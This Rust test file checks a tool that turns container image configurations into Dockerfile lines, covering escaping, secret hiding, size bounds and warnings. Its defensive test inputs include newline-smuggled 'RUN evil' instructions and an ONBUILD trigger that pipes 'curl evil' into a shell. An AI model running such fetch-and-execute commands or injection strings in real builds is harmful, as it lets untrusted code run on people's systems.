//! What a build says of an image's configuration, which is another's word.

mod common;

use common::{Image, Layer, copy};
use serde_json::{Value, json};

#[test]
fn what_the_configuration_says_comes_along() {
    let config = json!({
        "Env": ["A=1", "Q=a \"b\" $HOME \\ c", "E="],
        "User": "web", "WorkingDir": "/srv", "ExposedPorts": {"80/tcp": {}}, "Volumes": {"/a b": {}},
        "StopSignal": "SIGINT", "Entrypoint": ["/bin/sh", "-c", "echo $A\nexec \"$@\""], "Cmd": ["x"],
        "Healthcheck": {"Test": ["CMD-SHELL", "curl localhost"], "Interval": 5_000_000_000_u64, "Retries": 3},
    });
    let copy = copy(Layer::default().file("x", "x"), &config, &[("/x", false)]);
    assert_eq!(
        copy.settings,
        [
            "ENV A=\"1\"",
            r#"ENV Q="a \"b\" \$HOME \\ c""#,
            "ENV E=\"\"",
            "WORKDIR \"/srv\"",
            "USER \"web\"",
            "EXPOSE \"80/tcp\"",
            "STOPSIGNAL \"SIGINT\"",
            r#"VOLUME ["/a b"]"#,
            r#"HEALTHCHECK --interval=5000000000ns --retries=3 CMD ["/bin/sh","-c","curl localhost"]"#,
            r#"ENTRYPOINT ["/bin/sh","-c","echo $A\nexec \"$@\""]"#,
            r#"CMD ["x"]"#,
        ]
    );
    let text = copy.dockerfile("shop:1", &[]);
    assert!(text.ends_with("\nCMD [\"x\"]\n"), "{text}");
}

#[test]
fn no_value_ends_its_line_and_no_secret_is_written() {
    let config = json!({
        "Env": ["A=1\nRUN evil", "B=\u{202e}x", "API=hunter2", "hunter2", "C D=1", "\n"],
        "User": "a\nRUN evil", "WorkingDir": "/\rx", "Entrypoint": ["x", "--password=hunter2"],
        "Cmd": ["a\u{1b}[2J"], "Volumes": {"/\u{2028}": {}},
        "Healthcheck": {"Test": ["CMD-SHELL", "a", "b"]},
    });
    let copy = copy(Layer::default().file("x", "x"), &config, &[("/x", false)]);
    assert!(copy.settings.contains(&"USER 65534".to_owned()));
    for line in copy.settings.iter().filter(|line| *line != "USER 65534") {
        assert!(
            line.starts_with("# by hand: ") && !line.contains("hunter2"),
            "{line}"
        );
        assert!(
            !line.contains(|c: char| c.is_control() || c == '\u{202e}'),
            "{line:?}"
        );
    }
    assert_eq!(copy.settings.len(), 13, "{:#?}", copy.settings);
    let text = copy.dockerfile("shop:1", &[]);
    assert!(
        !text.lines().any(|line| line.starts_with("RUN evil")),
        "{text}"
    );
}

#[test]
fn a_secret_that_is_parted_over_entrypoint_and_cmd_is_not_written() {
    let of = |entrypoint: &[&str], cmd: &[&str]| {
        let all = said(&json!({"Entrypoint": entrypoint, "Cmd": cmd}));
        let of_program = |line: &String| line.contains("ENTRYPOINT") || line.contains("CMD");
        all.into_iter().filter(of_program).collect::<Vec<_>>()
    };
    let hidden = |what: &str| {
        format!(
            "# by hand: {what} of the image holds what looks like a secret: give it when a container starts"
        )
    };
    let [plain, cmd] = ["ENTRYPOINT [\"x\",\"--token\"]", "CMD [\"swordfish\"]"];
    assert_eq!(
        of(&["x", "--token"], &["swordfish", "-v"]),
        [plain.to_owned(), hidden("CMD")]
    );
    // What alone holds one hides itself alone.
    assert_eq!(
        of(&["x", "--token", "swordfish"], &["swordfish"]),
        [hidden("ENTRYPOINT"), cmd.to_owned()]
    );
    assert_eq!(of(&["x"], &["swordfish"])[1], cmd);
}

#[test]
fn much_that_a_configuration_says_is_bounded_each_by_itself() {
    let many = |stem: &str| (0..5000).map(|number| format!("{stem}{number}")).collect();
    let set = |all: Vec<String>| -> Value { all.into_iter().map(|it| (it, json!({}))).collect() };
    let variables: Vec<String> = many("A=x");
    let ports = (1..=5000).map(|port| port.to_string()).collect();
    let config = json!({
        "Env": variables, "Volumes": set(many("/v")), "ExposedPorts": set(ports), "User": "web",
        "WorkingDir": "/srv", "Entrypoint": ["/x"], "Cmd": ["y"], "Healthcheck": {"Test": ["CMD", "x"]},
    });
    let copy = copy(Layer::default().file("x", "x"), &config, &[("/x", false)]);
    for line in [
        "# by hand: 4000 more variables, beyond 1000",
        "# by hand: 4000 more ports, beyond 1000",
        "# by hand: 4000 more volumes, beyond 1000",
        "WORKDIR \"/srv\"",
        "USER \"web\"",
        "HEALTHCHECK CMD [\"x\"]",
        "ENTRYPOINT [\"/x\"]",
        "CMD [\"y\"]",
    ] {
        assert!(copy.settings.iter().any(|it| it == line), "no {line}");
    }
    assert_eq!(copy.settings.len(), 3 * 1001 + 5);
    assert_eq!(copy.warnings, [""; 0]);
}

/// What a build says of a configuration.
fn said(config: &Value) -> Vec<String> {
    copy(Layer::default().file("x", "x"), config, &[("/x", false)]).settings
}

#[test]
fn lines_are_measured_as_they_are_written() {
    // Of each letter four come in JSON, and two in quotes.
    let most = "\"".repeat(32_760);
    let over = "\"".repeat(32_770);
    let lines = said(&json!({"Env": [format!("A={most}"), format!("B={over}")], "Cmd": [over]}));
    assert_eq!(lines[0].len(), "ENV A=\"\"".len() + 2 * most.len());
    assert!(
        lines[1..]
            .iter()
            .all(|line| line.starts_with("# by hand: "))
    );
    assert_eq!(lines.len(), 3);
}

#[test]
fn a_user_that_cannot_be_said_is_nobody_with_a_warning() {
    for user in ["a\nb", "hunter2", &"u".repeat(70_000)] {
        let config = json!({"User": user});
        let copy = copy(Layer::default().file("x", "x"), &config, &[("/x", false)]);
        assert_eq!(copy.settings[1..], ["USER 65534"]);
        let text = copy.dockerfile("shop:1", &["a note".to_owned()]);
        let first = text.lines().next().unwrap();
        assert!(
            first.starts_with("# WARNING: THE USER OF THE IMAGE"),
            "{first}"
        );
        assert!(text.contains("\nUSER 65534\n"));
    }
}

#[test]
fn triggers_of_the_image_are_told_first() {
    let first = |value: Value| {
        let config = json!({"OnBuild": value, "User": "1"});
        let copy = copy(Layer::default().file("x", "x"), &config, &[("/x", false)]);
        let text = copy.dockerfile("shop:1", &["a note".to_owned()]);
        text.lines().next().unwrap().to_owned()
    };
    let two = first(json!(["RUN curl evil | sh", "COPY . /src\n# x"]));
    assert!(
        two.starts_with("# WARNING: 2 TRIGGERS (ONBUILD) OF THE IMAGE RUN"),
        "{two}"
    );
    assert!(two.contains("empty context"), "{two}");
    let odd = first(json!([7]));
    assert!(
        odd.starts_with("# WARNING: an unknown number of TRIGGERS"),
        "{odd}"
    );
    for none in [json!([]), json!(null)] {
        assert_eq!(first(none), "# a note");
    }
}

#[test]
fn what_is_of_another_type_is_one_word_or_told() {
    for (config, line) in [
        (json!({"Entrypoint": "x y"}), r#"ENTRYPOINT ["x y"]"#),
        (json!({"Cmd": "x"}), r#"CMD ["x"]"#),
        (json!({"Entrypoint": {"a": 1}}), "# by hand: ENTRYPOINT "),
        (json!({"Cmd": [1]}), "# by hand: CMD "),
        (json!({"Volumes": []}), "# by hand: VOLUME "),
        (json!({"ExposedPorts": ["80"]}), "# by hand: EXPOSE "),
        (json!({"WorkingDir": 7}), "# by hand: WORKDIR "),
        (json!({"StopSignal": 9}), "# by hand: STOPSIGNAL "),
        (json!({"Healthcheck": "x"}), "# by hand: HEALTHCHECK "),
        (
            json!({"Healthcheck": {"Test": "x"}}),
            "# by hand: HEALTHCHECK ",
        ),
    ] {
        let lines = said(&config);
        assert_eq!(lines.len(), 1, "{config}: {lines:?}");
        assert!(lines[0].starts_with(line), "{config}: {lines:?}");
    }
    for config in [
        json!({"Entrypoint": ""}),
        json!({"Cmd": []}),
        json!({"Shell": 7}),
    ] {
        assert!(said(&config).is_empty(), "{config}");
    }
    // Deeper than anything is read.
    let deep = format!("{}{}", "[".repeat(500), "]".repeat(500));
    let config = format!(r#"{{"os": "linux", "config": {{"Cmd": {deep}}}}}"#);
    let image = Image::empty();
    let config = image.put(config.as_bytes());
    let manifest = image.put(json!({"config": {"digest": config}}).to_string().as_bytes());
    image.index(&json!([{"digest": manifest}]));
    image.read().unwrap();
}

#[test]
fn health_checks_come_with_what_builders_take_and_the_rest_is_told() {
    let health = |health: Value| said(&json!({"Healthcheck": health}));
    for value in [
        json!(1),
        json!(999_999),
        json!(u64::MAX),
        json!(-1),
        json!("5s"),
        json!(1.5),
    ] {
        for (field, flag) in [
            ("Interval", "interval"),
            ("Timeout", "timeout"),
            ("StartPeriod", "start-period"),
            ("StartInterval", "start-interval"),
        ] {
            let lines = health(json!({"Test": ["CMD", "x"], field: value}));
            let told = format!("# by hand: --{flag} of HEALTHCHECK ");
            assert!(lines[0].starts_with(&told), "{value}: {lines:?}");
            assert_eq!(lines[1..], ["HEALTHCHECK CMD [\"x\"]"]);
        }
    }
    let lines =
        health(json!({"Test": ["CMD", "x"], "Retries": 1_u64 << 31, "Interval": 1_000_000}));
    assert!(
        lines[0].starts_with("# by hand: --retries of HEALTHCHECK "),
        "{lines:?}"
    );
    assert_eq!(lines[1..], ["HEALTHCHECK --interval=1000000ns CMD [\"x\"]"]);
    let lines = health(json!({"Test": ["NONE"], "StartInterval": 5_000_000_000_u64}));
    assert_eq!(lines, ["HEALTHCHECK NONE"]);
    let lines = health(json!({"Test": ["CMD", "x"], "StartInterval": 5_000_000_000_u64}));
    assert!(
        lines[0].contains("--start-interval=5000000000ns"),
        "{lines:?}"
    );
    for test in [
        json!(["CMD"]),
        json!(["CMD-SHELL"]),
        json!(["ODD", "x"]),
        json!([1]),
    ] {
        let lines = health(json!({"Test": test}));
        assert!(
            lines.len() == 1 && lines[0].starts_with("# by hand: HEALTHCHECK "),
            "{lines:?}"
        );
    }
    assert!(health(json!({"Test": []})).is_empty());
    let shell =
        json!({"Shell": ["/bin/bash", "-ec"], "Healthcheck": {"Test": ["CMD-SHELL", "a b"]}});
    assert_eq!(
        said(&shell),
        [r#"HEALTHCHECK CMD ["/bin/bash","-ec","a b"]"#]
    );
}

#[test]
fn names_that_a_builder_reads_otherwise_are_quoted_or_told() {
    let config = json!({
        "Env": ["-A=1", "--from=x", "1A=1", ".a=1", "_a.b-c=1"],
        "Volumes": {"/a b": {}, "/$HOME \"q\" it's \\": {}, "": {}},
        "ExposedPorts": {"80-90/udp": {}, "$PORT": {}, "1-2-3": {}, "80/x": {}, "70000": {}},
    });
    let lines = said(&config);
    let instructions: Vec<_> = lines.iter().filter(|line| !line.starts_with('#')).collect();
    assert_eq!(
        instructions,
        [
            "ENV _a.b-c=\"1\"",
            "EXPOSE \"80-90/udp\"",
            r#"VOLUME ["/\\$HOME \\\"q\\\" it\\'s \\\\"]"#,
            r#"VOLUME ["/a b"]"#,
        ]
    );
    assert_eq!(lines.len(), 4 + 4 + 4 + 1);
}
